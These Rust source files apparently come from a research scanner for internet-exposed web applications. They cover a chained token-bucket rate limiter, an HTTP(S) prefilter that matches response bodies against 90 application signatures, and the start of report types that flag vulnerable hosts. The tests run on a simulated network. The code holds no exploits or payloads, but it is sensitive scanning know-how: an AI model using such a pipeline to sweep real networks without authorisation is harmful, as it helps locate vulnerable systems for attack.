/// `shared_pacer_*` tests pin this). Handing out the lock during the
/// sleep instead would let every waiter observe the same refill
/// interval and overfeed the bucket.
/// Pacers additionally **chain**: a pacer may name an upstream
/// [`SharedPacer`], and every draw is charged to each level of the
/// chain in turn (local bucket first, then upstream). The job engine
/// uses this to build its two-level budget — a job's pacer chains into
/// its tenant's bucket, which chains into the engine-wide bucket — so a
/// probe is admitted only once *every* level has granted it, and a
/// tenant's jobs cannot together exceed either the tenant quota or the
/// global ceiling. A [`passthrough`](Self::passthrough) level has no
/// bucket of its own and simply forwards to its upstream.
#[derive(Debug, Clone, Default)]
pub struct SharedPacer {
    inner: Option<std::sync::Arc<tokio::sync::Mutex<Pacer>>>,
    upstream: Option<std::sync::Arc<SharedPacer>>,
}

impl SharedPacer {
    /// A shared pacer producing `rate` tokens/second with capacity
    /// `burst`.
    pub fn new(rate: f64, burst: f64) -> Self {
        SharedPacer {
            inner: Some(std::sync::Arc::new(tokio::sync::Mutex::new(Pacer::new(
                rate, burst,
            )))),
            upstream: None,
        }
    }

    /// A pacer with no bucket of its own: every draw is free locally
    /// and only charged to the upstream chain (if any). An unlimited
    /// tenant under a global ceiling, for instance.
    pub fn passthrough() -> Self {
        SharedPacer {
            inner: None,
            upstream: None,
        }
    }

    /// Chain this pacer under `upstream`: every draw is charged to this
    /// pacer's own bucket first, then to `upstream` (and transitively
    /// to *its* upstream). The upstream handle is shared — clones of it
    /// chained under many pacers all drain one bucket.
    pub fn with_upstream(mut self, upstream: SharedPacer) -> Self {
        self.upstream = Some(std::sync::Arc::new(upstream));
        self
    }

    /// Whether any level of the chain actually holds a bucket (a pure
    /// passthrough chain never waits and callers may skip it).
    pub fn is_limiting(&self) -> bool {
        let mut level = Some(self);
        while let Some(p) = level {
            if p.inner.is_some() {
                return true;
            }
            level = p.upstream.as_deref();
        }
        false
    }

    /// Wait for and consume one token from every level of the chain.
    pub async fn acquire(&self) {
        let mut level = Some(self);
        while let Some(p) = level {
            if let Some(inner) = &p.inner {
                inner.lock().await.acquire().await;
            }
            level = p.upstream.as_deref();
        }
    }

    /// Wait for and consume `n` tokens in one arithmetic step from
    /// every level of the chain — telescoping-equal to `n` sequential
    /// [`acquire`](Self::acquire) calls at each level, exactly like
    /// [`Pacer::acquire_many`].
    pub async fn acquire_many(&self, n: u64) {
        if n == 0 {
            return;
        }
        let mut level = Some(self);
        while let Some(p) = level {
            if let Some(inner) = &p.inner {
                inner.lock().await.acquire_many(n).await;
            }
            level = p.upstream.as_deref();
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn starts_full_and_drains() {
        let mut b = TokenBucket::new(10.0, 3.0);
        assert!(b.try_take());
        assert!(b.try_take());
        assert!(b.try_take());
        assert!(!b.try_take(), "burst exhausted");
    }

    #[test]
    fn refills_at_rate_and_caps_at_burst() {
        let mut b = TokenBucket::new(2.0, 4.0);
        for _ in 0..4 {
            assert!(b.try_take());
        }
        b.refill(Duration::from_millis(500));
        assert!((b.tokens() - 1.0).abs() < 1e-9);
        b.refill(Duration::from_secs(100));
        assert!((b.tokens() - 4.0).abs() < 1e-9, "capped at burst");
    }

    #[test]
    fn wait_time_is_proportional_to_deficit() {
        let mut b = TokenBucket::new(2.0, 1.0);
        assert_eq!(b.time_until_available(), Duration::ZERO);
        assert!(b.try_take());
        let wait = b.time_until_available();
        assert!((wait.as_secs_f64() - 0.5).abs() < 1e-9, "{wait:?}");
    }

    #[tokio::test(start_paused = true)]
    async fn pacer_enforces_rate_under_paused_time() {
        let mut p = Pacer::new(100.0, 1.0);
        let start = tokio::time::Instant::now();
        for _ in 0..11 {
            p.acquire().await;
        }
        let elapsed = tokio::time::Instant::now() - start;
        // 1 burst token + 10 at 100/s = at least 100ms of virtual time.
        assert!(elapsed >= Duration::from_millis(95), "{elapsed:?}");
    }

    /// Pins the refill arithmetic under repeated `acquire` calls: if an
    /// elapsed interval were ever credited twice (e.g. `last` not
    /// advancing with the refill), extra tokens would appear and the
    /// loop would finish early; if an interval were dropped, it would
    /// finish late.
    #[tokio::test(start_paused = true)]
    async fn pacer_never_double_credits_elapsed_time() {
        let mut p = Pacer::new(10.0, 1.0);
        let start = tokio::time::Instant::now();
        for _ in 0..21 {
            p.acquire().await;
        }
        let elapsed = tokio::time::Instant::now() - start;
        // 1 burst token + 20 refilled at 10/s = 2s of virtual time.
        assert!(elapsed >= Duration::from_millis(1_990), "{elapsed:?}");
        assert!(elapsed <= Duration::from_millis(2_200), "{elapsed:?}");
    }

    /// Burst tokens are consumed without waiting; the first paced
    /// acquire then waits one full period.
    #[tokio::test(start_paused = true)]
    async fn pacer_spends_burst_before_pacing() {
        let mut p = Pacer::new(1.0, 3.0);
        let start = tokio::time::Instant::now();
        for _ in 0..3 {
            p.acquire().await;
        }
        assert_eq!(
            tokio::time::Instant::now() - start,
            Duration::ZERO,
            "burst is free"
        );
        p.acquire().await;
        let elapsed = tokio::time::Instant::now() - start;
        assert!(elapsed >= Duration::from_millis(990), "{elapsed:?}");
    }

    /// Bulk acquisition pays the same virtual time as the one-by-one
    /// loop it replaces, and leaves the bucket in the same (empty)
    /// state.
    #[tokio::test(start_paused = true)]
    async fn acquire_many_matches_sequential_acquires() {
        // 64 tokens at 32/s with burst 32: half free, half paced.
        let mut seq = Pacer::new(32.0, 32.0);
        let start = tokio::time::Instant::now();
        for _ in 0..64 {
            seq.acquire().await;
        }
        let sequential = tokio::time::Instant::now() - start;
        assert!(sequential >= Duration::from_millis(990), "{sequential:?}");

        let mut bulk = Pacer::new(32.0, 32.0);
        let start = tokio::time::Instant::now();
        bulk.acquire_many(64).await;
        let bulked = tokio::time::Instant::now() - start;
        assert!(bulked >= Duration::from_millis(990), "{bulked:?}");
        // The single deficit sleep avoids 32 per-token roundups, so it
        // can only be at or below the sequential loop's total.
        assert!(bulked <= sequential, "{bulked:?} > {sequential:?}");

        // Both pacers drained to zero: the next token costs a full
        // period either way.
        let start = tokio::time::Instant::now();
        seq.acquire().await;
        let seq_next = tokio::time::Instant::now() - start;
        let start = tokio::time::Instant::now();
        bulk.acquire_many(1).await;
        let bulk_next = tokio::time::Instant::now() - start;
        assert!(seq_next >= Duration::from_millis(30), "{seq_next:?}");
        assert!(bulk_next >= Duration::from_millis(30), "{bulk_next:?}");
    }

    /// A bulk draw within the stored burst is free, like the loop.
    #[tokio::test(start_paused = true)]
    async fn acquire_many_spends_burst_before_pacing() {
        let mut p = Pacer::new(1.0, 4.0);
        let start = tokio::time::Instant::now();
        p.acquire_many(4).await;
        assert_eq!(tokio::time::Instant::now() - start, Duration::ZERO);
        p.acquire_many(2).await;
        let elapsed = tokio::time::Instant::now() - start;
        assert!(elapsed >= Duration::from_millis(1_990), "{elapsed:?}");
    }

    #[test]
    #[should_panic(expected = "positive")]
    fn zero_rate_is_rejected() {
        let _ = TokenBucket::new(0.0, 1.0);
    }

    /// A shared pacer drained by one task behaves exactly like an owned
    /// pacer: same telescoped deficit wait, same empty bucket after.
    #[tokio::test(start_paused = true)]
    async fn shared_pacer_matches_owned_pacer() {
        let mut owned = Pacer::new(32.0, 32.0);
        let start = tokio::time::Instant::now();
        owned.acquire_many(64).await;
        let owned_elapsed = tokio::time::Instant::now() - start;

        let shared = SharedPacer::new(32.0, 32.0);
        let start = tokio::time::Instant::now();
        shared.acquire_many(64).await;
        let shared_elapsed = tokio::time::Instant::now() - start;
        assert_eq!(shared_elapsed, owned_elapsed, "{shared_elapsed:?}");
        assert!(shared_elapsed >= Duration::from_millis(990));
    }

    /// The shard/pacer pinning test: K workers drawing concurrently
    /// from one [`SharedPacer`] consume the same total virtual wait as
    /// one pipeline drawing the same tokens sequentially — the
    /// whole-scan rate bound does not multiply with the shard count.
    #[tokio::test(start_paused = true)]
    async fn shared_pacer_concurrent_draws_equal_one_pipeline() {
        // One pipeline: 8 blocks of 64 tokens at 64/s, burst 64.
        // Telescoped: (512 - 64) / 64 = 7s of virtual wait.
        let mut single = Pacer::new(64.0, 64.0);
        let start = tokio::time::Instant::now();
        for _ in 0..8 {
            single.acquire_many(64).await;
        }
        let sequential = tokio::time::Instant::now() - start;
        assert!(sequential >= Duration::from_millis(6_990), "{sequential:?}");

        // K = 4 shard workers, 2 blocks each, drawing concurrently.
        let shared = SharedPacer::new(64.0, 64.0);
        let start = tokio::time::Instant::now();
        let workers: Vec<_> = (0..4)
            .map(|_| {
                let pacer = shared.clone();
                tokio::spawn(async move {
                    for _ in 0..2 {
                        pacer.acquire_many(64).await;
                    }
                })
            })
            .collect();
        for w in workers {
            w.await.expect("worker");
        }
        let concurrent = tokio::time::Instant::now() - start;
        assert_eq!(
            concurrent, sequential,
            "K concurrent drawers must pay exactly the single-pipeline wait"
        );

        // Both are drained: the next token costs a full period.
        let start = tokio::time::Instant::now();
        shared.acquire().await;
        let next = tokio::time::Instant::now() - start;
        assert!(next >= Duration::from_millis(10), "{next:?}");
    }

    /// `acquire` on the shared handle serializes with `acquire_many`:
    /// interleaved single draws never double-credit an interval.
    #[tokio::test(start_paused = true)]
    async fn shared_pacer_single_acquires_pace_correctly() {
        let shared = SharedPacer::new(10.0, 1.0);
        let start = tokio::time::Instant::now();
        let a = {
            let pacer = shared.clone();
            tokio::spawn(async move {
                for _ in 0..10 {
                    pacer.acquire().await;
                }
            })
        };
        let b = {
            let pacer = shared.clone();
            tokio::spawn(async move {
                for _ in 0..11 {
                    pacer.acquire().await;
                }
            })
        };
        a.await.expect("task a");
        b.await.expect("task b");
        let elapsed = tokio::time::Instant::now() - start;
        // 1 burst token + 20 refilled at 10/s = 2s of virtual time.
        assert!(elapsed >= Duration::from_millis(1_990), "{elapsed:?}");
        assert!(elapsed <= Duration::from_millis(2_200), "{elapsed:?}");
    }

    /// A passthrough pacer (no bucket, no upstream) never waits.
    #[tokio::test(start_paused = true)]
    async fn passthrough_is_free() {
        let p = SharedPacer::passthrough();
        assert!(!p.is_limiting());
        let start = tokio::time::Instant::now();
        p.acquire_many(1_000_000).await;
        p.acquire().await;
        assert_eq!(tokio::time::Instant::now() - start, Duration::ZERO);
    }

    /// A chained draw is charged to every level: with a generous local
    /// bucket the upstream ceiling still binds, and vice versa — the
    /// effective rate is the minimum over the chain.
    #[tokio::test(start_paused = true)]
    async fn chained_draws_pay_the_slowest_level() {
        // Tight upstream (10/s), generous local (1000/s).
        let global = SharedPacer::new(10.0, 1.0);
        let tenant = SharedPacer::new(1000.0, 1.0).with_upstream(global);
        assert!(tenant.is_limiting());
        let start = tokio::time::Instant::now();
        for _ in 0..11 {
            tenant.acquire().await;
        }
        let elapsed = tokio::time::Instant::now() - start;
        // 1 burst token upstream + 10 at 10/s = 1s of virtual time.
        assert!(elapsed >= Duration::from_millis(990), "{elapsed:?}");

        // Tight local (10/s), generous upstream (1000/s): same bound.
        let global = SharedPacer::new(1000.0, 1.0);
        let tenant = SharedPacer::new(10.0, 1.0).with_upstream(global);
        let start = tokio::time::Instant::now();
        for _ in 0..11 {
            tenant.acquire().await;
        }
        let elapsed = tokio::time::Instant::now() - start;
        assert!(elapsed >= Duration::from_millis(990), "{elapsed:?}");
    }

    /// Two tenants chained under one shared global bucket: their
    /// combined draw rate is bounded by the global ceiling even when
    /// each tenant's own quota would allow more.
    #[tokio::test(start_paused = true)]
    async fn shared_upstream_bounds_the_sum_of_tenants() {
        let global = SharedPacer::new(20.0, 1.0);
        let a = SharedPacer::new(1000.0, 1.0).with_upstream(global.clone());
        let b = SharedPacer::new(1000.0, 1.0).with_upstream(global);
        let start = tokio::time::Instant::now();
        let ta = tokio::spawn(async move {
            for _ in 0..10 {
                a.acquire().await;
            }
        });
        let tb = tokio::spawn(async move {
            for _ in 0..11 {
                b.acquire().await;
            }
        });
        ta.await.expect("tenant a");
        tb.await.expect("tenant b");
        let elapsed = tokio::time::Instant::now() - start;
        // 21 tokens through a 20/s global bucket with 1 stored: 1s.
        assert!(elapsed >= Duration::from_millis(990), "{elapsed:?}");
    }

    /// Bulk draws charge every level with the same telescoping
    /// arithmetic as the single-level pacer.
    #[tokio::test(start_paused = true)]
    async fn chained_acquire_many_charges_every_level() {
        let global = SharedPacer::new(64.0, 64.0);
        let tenant = SharedPacer::passthrough().with_upstream(global.clone());
        let start = tokio::time::Instant::now();
        tenant.acquire_many(128).await;
        let elapsed = tokio::time::Instant::now() - start;
        // (128 - 64) / 64 = 1s, paid entirely upstream.
        assert!(elapsed >= Duration::from_millis(990), "{elapsed:?}");

        // The global bucket is drained: a sibling draw now pays full price.
        let start = tokio::time::Instant::now();
        global.acquire().await;
        let next = tokio::time::Instant::now() - start;
        assert!(next >= Duration::from_millis(10), "{next:?}");
    }
}
