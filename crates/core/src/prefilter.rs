//! Stage II: HTTP(S) probe + signature prefilter.
//!
//! For each open port the prefilter checks whether it speaks HTTP and/or
//! HTTPS — except port 80 (HTTP only) and 443 (HTTPS only) — follows
//! redirects until a response body arrives, and matches the body against
//! the 90 prefilter signatures. Hosts matching no signature are discarded
//! before the expensive stage III.

use crate::multipattern::MultiPattern;
use crate::retry::{RetryMetrics, RetryPolicy};
use crate::scratch::Scratch;
use crate::signatures::{all_signatures, rank_candidates, Signature};
use crate::telemetry::{AllocMetrics, Counter, Histogram, Telemetry, Timer};
use nokeys_apps::AppId;
use nokeys_http::{Client, Endpoint, Scheme, Transport};
use serde::Serialize;
use std::collections::BTreeMap;
use std::sync::Arc;

/// A stage-II hit: an endpoint that speaks HTTP(S) and looks like one or
/// more of the studied applications.
#[derive(Debug, Clone, Serialize)]
pub struct PrefilterHit {
    pub endpoint: Endpoint,
    /// Scheme the body was obtained over.
    pub scheme: Scheme,
    /// Candidate applications (signature matches), catalog order.
    pub candidates: Vec<AppId>,
    /// Number of redirects followed before the body arrived.
    pub redirects: usize,
}

/// Per-port protocol statistics (Table 2's "# HTTP" / "# HTTPS").
#[derive(Debug, Clone, Default, Serialize)]
pub struct PortProtocolStats {
    pub http: u64,
    pub https: u64,
}

/// Result of prefiltering a set of endpoints.
#[derive(Debug, Default)]
pub struct PrefilterResult {
    pub hits: Vec<PrefilterHit>,
    /// Endpoints that spoke HTTP(S) but matched no signature.
    pub discarded: u64,
    /// Endpoints that spoke neither protocol.
    pub silent: u64,
    /// Probe tasks that died (panic/cancellation) and were absorbed
    /// instead of aborting the batch; their endpoints are unclassified.
    pub task_failures: u64,
    /// Protocol stats per port.
    pub per_port: BTreeMap<u16, PortProtocolStats>,
}

/// Cached stage-II telemetry handles.
struct PrefilterMetrics {
    endpoints: Counter,
    http_responses: Counter,
    https_responses: Counter,
    hits: Counter,
    discarded: Counter,
    silent: Counter,
    bodies_matched: Counter,
    view_lower: Counter,
    view_squashed: Counter,
    /// One hit counter per signature, catalog order.
    signature_hits: Vec<Counter>,
    task_failures: Counter,
    redirects: Histogram,
    body_bytes: Histogram,
    probe: Timer,
}

impl PrefilterMetrics {
    fn new(telemetry: &Telemetry, signatures: &[Signature]) -> Self {
        PrefilterMetrics {
            endpoints: telemetry.counter("stage2.endpoints_probed"),
            http_responses: telemetry.counter("stage2.http_responses"),
            https_responses: telemetry.counter("stage2.https_responses"),
            hits: telemetry.counter("stage2.hits"),
            discarded: telemetry.counter("stage2.discarded"),
            silent: telemetry.counter("stage2.silent"),
            bodies_matched: telemetry.counter("stage2.multipattern.bodies"),
            view_lower: telemetry.counter("stage2.multipattern.view_lower"),
            view_squashed: telemetry.counter("stage2.multipattern.view_squashed"),
            signature_hits: signatures
                .iter()
                .enumerate()
                .map(|(i, s)| telemetry.counter(&format!("stage2.signature.{i:02}.{}", s.app)))
                .collect(),
            task_failures: telemetry.counter("stage2.task_failures"),
            redirects: telemetry.histogram("stage2.redirects", &[0, 1, 2, 4, 8]),
            body_bytes: telemetry.histogram("stage2.body_bytes", &[256, 1024, 4096, 16384, 65536]),
            probe: telemetry.timer("stage2.prefilter"),
        }
    }
}

/// The stage-II prefilter.
pub struct Prefilter {
    signatures: Vec<Signature>,
    /// Single-pass compiled form of `signatures` — the per-body hot
    /// loop runs one automaton pass per view instead of 90 searches.
    matcher: MultiPattern,
    metrics: PrefilterMetrics,
    /// Whole-fetch retry budget for transient errors (a connection that
    /// dies mid-response surfaces `UnexpectedEof`, which a fresh fetch
    /// can recover from). Disabled for standalone prefilters; the
    /// pipeline passes its configured policy.
    retry: RetryPolicy,
    fetch_retry: RetryMetrics,
    /// Deterministic `alloc.*` accounting for the scratch hot path.
    alloc: AllocMetrics,
    /// When true (the default) each worker loop reuses one [`Scratch`]
    /// across its whole probe stream; when false every probe gets a
    /// fresh arena. Both run the identical code path and record the
    /// identical counters — the toggle exists so the equivalence suite
    /// can prove reuse changes nothing observable.
    scratch_reuse: bool,
}

impl Default for Prefilter {
    fn default() -> Self {
        Self::new()
    }
}

impl Prefilter {
    pub fn new() -> Self {
        Self::with_telemetry(&Telemetry::default())
    }

    /// Build a prefilter that records probe counts, per-signature hit
    /// counts and multipattern view statistics into `telemetry`.
    pub fn with_telemetry(telemetry: &Telemetry) -> Self {
        Self::with_telemetry_and_retry(telemetry, RetryPolicy::disabled())
    }

    /// Like [`with_telemetry`](Self::with_telemetry), plus a retry
    /// budget for transient fetch failures, accounted under
    /// `retry.fetch.*`.
    pub fn with_telemetry_and_retry(telemetry: &Telemetry, retry: RetryPolicy) -> Self {
        let signatures = all_signatures();
        let matcher = MultiPattern::new(&signatures);
        let metrics = PrefilterMetrics::new(telemetry, &signatures);
        let fetch_retry = RetryMetrics::new(telemetry, "fetch");
        let alloc = AllocMetrics::new(telemetry);
        Prefilter {
            signatures,
            matcher,
            metrics,
            retry,
            fetch_retry,
            alloc,
            scratch_reuse: true,
        }
    }

    /// Toggle per-worker scratch-arena reuse (on by default). Off means
    /// a fresh arena per probe; results and telemetry are byte-identical
    /// either way.
    pub fn with_scratch_reuse(mut self, enabled: bool) -> Self {
        self.scratch_reuse = enabled;
        self
    }

    /// Schemes to try on `port` ("we checked if they speak HTTP or
    /// HTTPS, except port 80 where we only tested HTTP, and port 443
    /// where we only tested for HTTPS").
    pub fn schemes_for_port(port: u16) -> &'static [Scheme] {
        match port {
            80 => &[Scheme::Http],
            443 => &[Scheme::Https],
            _ => &[Scheme::Http, Scheme::Https],
        }
    }

    /// Probe a single endpoint; returns the hit (if any signature
    /// matched) plus which schemes answered. One-off entry point: uses
    /// a throwaway scratch arena. The worker loops call
    /// [`probe_endpoint_scratch`](Self::probe_endpoint_scratch) with a
    /// long-lived one instead.
    pub async fn probe_endpoint<T: Transport>(
        &self,
        client: &Client<T>,
        ep: Endpoint,
    ) -> (Option<PrefilterHit>, PortProtocolStats) {
        let mut scratch = Scratch::new();
        self.probe_endpoint_scratch(client, ep, &mut scratch).await
    }

    /// Probe a single endpoint, borrowing all matching buffers from
    /// `scratch`. The steady-state stage-II hot path: with a reused
    /// arena, view materialization and the multipattern pass allocate
    /// nothing.
    ///
    /// The `alloc.*` counters recorded here are pure functions of the
    /// response stream (never of the arena's actual capacity history),
    /// so they are byte-identical at any parallelism and with reuse on
    /// or off.
    pub async fn probe_endpoint_scratch<T: Transport>(
        &self,
        client: &Client<T>,
        ep: Endpoint,
        scratch: &mut Scratch,
    ) -> (Option<PrefilterHit>, PortProtocolStats) {
        let mut stats = PortProtocolStats::default();
        let mut hit: Option<PrefilterHit> = None;
        let schemes = Self::schemes_for_port(ep.port);
        self.metrics.endpoints.incr();
        self.metrics.probe.record(schemes.len() as u64);
        for &scheme in schemes {
            let fetched = match self
                .retry
                .run(ep, &self.fetch_retry, || client.get_path(ep, scheme, "/"))
                .await
            {
                Ok(fetched) => fetched,
                Err(_) => continue,
            };
            match scheme {
                Scheme::Http => {
                    stats.http += 1;
                    self.metrics.http_responses.incr();
                }
                Scheme::Https => {
                    stats.https += 1;
                    self.metrics.https_responses.incr();
                }
            }
            self.metrics.redirects.observe(fetched.redirects as u64);
            self.alloc
                .record_headers(fetched.response.headers.spilled());
            if hit.is_none() {
                let body = fetched.response.body_str();
                self.metrics.bodies_matched.incr();
                self.metrics.body_bytes.observe(body.len() as u64);
                let used = self.matcher.matched_signatures_scratch(&body, scratch);
                for (i, fired) in scratch.matched().iter().enumerate() {
                    if *fired {
                        self.metrics.signature_hits[i].incr();
                    }
                }
                if let Some(bytes) = used.lower {
                    self.metrics.view_lower.incr();
                    self.alloc.record_lower_view(bytes);
                }
                if let Some(bytes) = used.squashed {
                    self.metrics.view_squashed.incr();
                    self.alloc.record_squashed_view(bytes);
                }
                let candidates =
                    rank_candidates(self.matcher.counts_from_matched(scratch.matched()));
                if !candidates.is_empty() {
                    hit = Some(PrefilterHit {
                        endpoint: ep,
                        scheme,
                        candidates,
                        redirects: fetched.redirects,
                    });
                }
            }
        }
        (hit, stats)
    }

    /// Merge one endpoint's probe outcome into `result`, recording the
    /// hit / discarded / silent classification. Shared by the
    /// sequential and bounded-concurrency paths so both count
    /// identically.
    fn absorb_probe(
        &self,
        result: &mut PrefilterResult,
        ep: Endpoint,
        hit: Option<PrefilterHit>,
        stats: PortProtocolStats,
    ) {
        let spoke = stats.http + stats.https > 0;
        let entry = result.per_port.entry(ep.port).or_default();
        entry.http += stats.http;
        entry.https += stats.https;
        match hit {
            Some(h) => {
                self.metrics.hits.incr();
                result.hits.push(h);
            }
            None if spoke => {
                self.metrics.discarded.incr();
                result.discarded += 1;
            }
            None => {
                self.metrics.silent.incr();
                result.silent += 1;
            }
        }
    }

    /// Prefilter a batch of endpoints.
    pub async fn run<T: Transport>(
        &self,
        client: &Client<T>,
        endpoints: &[Endpoint],
    ) -> PrefilterResult {
        let mut result = PrefilterResult::default();
        let mut scratch = Scratch::new();
        for &ep in endpoints {
            if !self.scratch_reuse {
                scratch = Scratch::new();
            }
            let (hit, stats) = self.probe_endpoint_scratch(client, ep, &mut scratch).await;
            self.absorb_probe(&mut result, ep, hit, stats);
        }
        result
    }

    /// Prefilter a batch of endpoints with up to `parallelism` probes in
    /// flight at once: `parallelism` persistent worker loops pull
    /// endpoint indices from a shared atomic cursor (one task per
    /// concurrency slot rather than one per endpoint — per-task spawn
    /// overhead dominated the profile at batch sizes in the thousands).
    ///
    /// Deterministic: each result is written to its endpoint's index
    /// slot and the slots are merged in index order, so the returned
    /// [`PrefilterResult`] is identical to the sequential [`run`] no
    /// matter how the workers interleave.
    ///
    /// [`run`]: Prefilter::run
    pub async fn run_bounded<T>(
        self: &Arc<Self>,
        client: &Client<T>,
        endpoints: &[Endpoint],
        parallelism: usize,
    ) -> PrefilterResult
    where
        T: Transport + Clone + 'static,
    {
        if parallelism <= 1 || endpoints.len() <= 1 {
            return self.run(client, endpoints).await;
        }
        struct ProbeQueue {
            endpoints: Vec<Endpoint>,
            cursor: std::sync::atomic::AtomicUsize,
            results: Vec<std::sync::OnceLock<(Option<PrefilterHit>, PortProtocolStats)>>,
        }
        let queue = Arc::new(ProbeQueue {
            endpoints: endpoints.to_vec(),
            cursor: std::sync::atomic::AtomicUsize::new(0),
            results: (0..endpoints.len())
                .map(|_| std::sync::OnceLock::new())
                .collect(),
        });
        let mut join_set = tokio::task::JoinSet::new();
        for _ in 0..parallelism.min(endpoints.len()) {
            let prefilter = Arc::clone(self);
            let client = client.clone();
            let queue = Arc::clone(&queue);
            join_set.spawn(async move {
                // One arena per persistent worker loop: every probe
                // this worker claims borrows the same buffers.
                let mut scratch = Scratch::new();
                loop {
                    let i = queue
                        .cursor
                        .fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                    if i >= queue.endpoints.len() {
                        break;
                    }
                    if !prefilter.scratch_reuse {
                        scratch = Scratch::new();
                    }
                    let (hit, stats) = prefilter
                        .probe_endpoint_scratch(&client, queue.endpoints[i], &mut scratch)
                        .await;
                    let _ = queue.results[i].set((hit, stats));
                }
            });
        }
        // A worker that dies mid-probe must not abort the batch: its
        // in-flight endpoint's slot stays empty (counted below) while
        // the surviving workers keep claiming the remaining indices.
        while join_set.join_next().await.is_some() {}
        let probed: Vec<Option<(Option<PrefilterHit>, PortProtocolStats)>> =
            match Arc::try_unwrap(queue) {
                Ok(queue) => queue
                    .results
                    .into_iter()
                    .map(std::sync::OnceLock::into_inner)
                    .collect(),
                Err(queue) => queue.results.iter().map(|r| r.get().cloned()).collect(),
            };

        // Merge in endpoint order — byte-identical to the sequential run.
        let mut result = PrefilterResult::default();
        for (&ep, slot) in endpoints.iter().zip(probed) {
            match slot {
                Some((hit, stats)) => self.absorb_probe(&mut result, ep, hit, stats),
                None => {
                    self.metrics.task_failures.incr();
                    result.task_failures += 1;
                }
            }
        }
        result
    }

    /// Number of loaded signatures (90 in the paper's configuration).
    pub fn signature_count(&self) -> usize {
        self.signatures.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::portscan::{PortScanConfig, PortScanner};
    use nokeys_netsim::{SimTransport, Universe, UniverseConfig};
    use std::sync::Arc;

    fn client() -> Client<SimTransport> {
        let t = SimTransport::new(Arc::new(Universe::generate(UniverseConfig::tiny(42))));
        Client::new(t)
    }

    #[test]
    fn scheme_rules_match_the_paper() {
        assert_eq!(Prefilter::schemes_for_port(80), &[Scheme::Http]);
        assert_eq!(Prefilter::schemes_for_port(443), &[Scheme::Https]);
        assert_eq!(
            Prefilter::schemes_for_port(8080),
            &[Scheme::Http, Scheme::Https]
        );
        assert_eq!(Prefilter::new().signature_count(), 90);
    }

    #[tokio::test]
    async fn classifies_awe_noise_and_silence() {
        let client = client();
        let scanner = PortScanner::new(PortScanConfig::new(vec!["20.0.0.0/16".parse().unwrap()]));
        let scan = scanner.scan(client.transport()).await;
        let prefilter = Prefilter::new();
        let result = prefilter.run(&client, &scan.open).await;

        // Every non-tarpit AWE endpoint that speaks HTTP or HTTPS must be
        // identified as a candidate.
        let universe = client.transport().universe();
        let awe_services: u64 = universe
            .hosts()
            .filter(|h| h.awe().is_some())
            .map(|h| h.services.len() as u64)
            .sum();
        assert!(
            result.hits.len() as u64 >= awe_services / 2,
            "most AWE endpoints hit"
        );

        // Background noise is discarded, tarpits and NotHttp are silent.
        assert!(
            result.discarded > 0,
            "background noise present and discarded"
        );
        assert!(result.silent > 0, "silent services present");

        // Candidate attribution is correct for each hit.
        for hit in &result.hits {
            let host = universe.host(hit.endpoint.ip).expect("hit host exists");
            let (_, actual_app) = host.awe().expect("hits are AWE hosts");
            assert!(
                hit.candidates.contains(&actual_app),
                "{} misattributed: {:?} (actual {actual_app})",
                hit.endpoint,
                hit.candidates
            );
        }
    }

    #[tokio::test]
    async fn bounded_run_is_identical_to_sequential() {
        let client = client();
        let scanner = PortScanner::new(PortScanConfig::new(vec!["20.0.0.0/16".parse().unwrap()]));
        let scan = scanner.scan(client.transport()).await;
        let prefilter = Arc::new(Prefilter::new());
        let seq = prefilter.run(&client, &scan.open).await;
        for parallelism in [2, 8, 64] {
            let conc = prefilter
                .run_bounded(&client, &scan.open, parallelism)
                .await;
            assert_eq!(conc.discarded, seq.discarded);
            assert_eq!(conc.silent, seq.silent);
            assert_eq!(
                serde_json::to_string(&conc.hits).unwrap(),
                serde_json::to_string(&seq.hits).unwrap(),
                "hits diverge at parallelism {parallelism}"
            );
            assert_eq!(
                serde_json::to_string(&conc.per_port).unwrap(),
                serde_json::to_string(&seq.per_port).unwrap(),
            );
        }
    }

    #[tokio::test]
    async fn prefilter_telemetry_reconciles_with_result() {
        let client = client();
        let scanner = PortScanner::new(PortScanConfig::new(vec!["20.0.0.0/16".parse().unwrap()]));
        let scan = scanner.scan(client.transport()).await;
        let telemetry = Telemetry::new();
        let prefilter = Prefilter::with_telemetry(&telemetry);
        let result = prefilter.run(&client, &scan.open).await;
        let snap = telemetry.snapshot();
        assert_eq!(
            snap.counter("stage2.endpoints_probed"),
            scan.open.len() as u64
        );
        assert_eq!(snap.counter("stage2.hits"), result.hits.len() as u64);
        assert_eq!(snap.counter("stage2.discarded"), result.discarded);
        assert_eq!(snap.counter("stage2.silent"), result.silent);
        let http: u64 = result.per_port.values().map(|s| s.http).sum();
        let https: u64 = result.per_port.values().map(|s| s.https).sum();
        assert_eq!(snap.counter("stage2.http_responses"), http);
        assert_eq!(snap.counter("stage2.https_responses"), https);
        // All 90 per-signature counters are registered, some fired.
        assert_eq!(
            snap.counters
                .keys()
                .filter(|k| k.starts_with("stage2.signature."))
                .count(),
            90
        );
        assert!(snap.prefixed_total("stage2.signature.") > 0);
        // Redirect observations: one per HTTP(S) response.
        assert_eq!(snap.histograms["stage2.redirects"].count, http + https);
    }

    #[tokio::test]
    async fn per_port_stats_accumulate() {
        let client = client();
        let scanner = PortScanner::new(PortScanConfig::new(vec!["20.0.0.0/16".parse().unwrap()]));
        let scan = scanner.scan(client.transport()).await;
        let result = Prefilter::new().run(&client, &scan.open).await;
        // Port 80 must have zero HTTPS responses, port 443 zero HTTP.
        if let Some(p80) = result.per_port.get(&80) {
            assert_eq!(p80.https, 0);
            assert!(p80.http > 0);
        }
        if let Some(p443) = result.per_port.get(&443) {
            assert_eq!(p443.http, 0);
        }
    }
}
