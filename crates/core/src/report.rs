//! Scan report types.

use nokeys_apps::{AppId, ReleaseDate, Version};
use nokeys_http::{Endpoint, Scheme};
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;

/// How a version was determined.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum FingerprintMethod {
    /// The application voluntarily reveals its version (API endpoint,
    /// header, generator meta, HTML comment).
    Voluntary,
    /// Matched against the static-file hash knowledge base.
    KnowledgeBase,
}

/// One identified AWE host.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct HostFinding {
    pub endpoint: Endpoint,
    pub scheme: Scheme,
    /// The application attributed to this host.
    pub app: AppId,
    /// Stage III verdict: does the host carry a MAV?
    pub vulnerable: bool,
    /// Fingerprinted version, if determinable.
